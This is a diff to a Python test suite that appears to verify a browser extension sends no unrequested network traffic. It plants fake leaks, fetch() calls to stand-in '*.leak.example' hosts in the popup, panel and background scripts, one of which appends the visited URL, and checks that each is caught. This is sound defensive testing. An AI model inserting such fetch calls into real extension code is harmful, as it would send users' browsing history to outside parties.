@@ -34,7 +34,8 @@ def recorded(name, document, folder, visits, openings, planted=None):
         with b.running(name, folder, web.address) as browser:
             b.fresh(browser, badge=True, marks=True, notify=True)
             b.background(browser, {"settle": True})
-            tab = browser.visit(SITES[0])
+            tab = browser.visit(SITES[1])
+            b.begin_reading(browser, tab)  # the panel stays open and follows
             web.log.clear()
             for number in range(visits):
                 browser.go(tab, f"{SITES[number % len(SITES)]}?visit={number}")
@@ -58,6 +59,10 @@ def test_no_visit_and_no_opening_of_the_popup_asks_anybody_anything(name, sample
 LEAKS = {
     # file: (what stands there, what a leak would add behind it)
     "popup/popup.js": ("await open();", "fetch('https://popup.leak.example/');"),
+    "panel/panel.js": (
+        "async function follow() {",
+        "fetch('https://panel.leak.example/');",
+    ),
     "background.js": (
         "async function visited(tabId, url) {",
         "fetch('https://worker.leak.example/?' + encodeURIComponent(url));",
@@ -82,7 +87,7 @@ def leaking(there: str, leak: str):
 def test_each_planted_leak_is_found(name, sample_bundle, tmp_path):
     planted = {file: leaking(*where) for file, where in LEAKS.items()}
     found = recorded(name, sample_bundle, tmp_path / "x", 5, 1, planted)
-    for host in ("popup", "worker", "visit"):
+    for host in ("popup", "panel", "worker", "visit"):
         assert [url for url in found if f"//{host}.leak.example/" in url], host
 
 
@@ -98,7 +103,7 @@ def test_the_bundle_is_fetched_when_its_hour_has_come(name, sample_bundle, tmp_p
                 await api.alarms.create("bundle", { when: Date.now() + 300 });
             """)
             browser.kill_worker()
-            b.eventually(lambda: web.asked_of(API_HOST), 40)
+            b.eventually(lambda: web.asked_of(API_HOST), 120)
             [asked] = b.others(web)
             assert asked.url == f"https://{API_HOST}/v1/bundle.json"
             [alarm] = browser.run("return (globalThis.browser ?? chrome).alarms.getAll()")
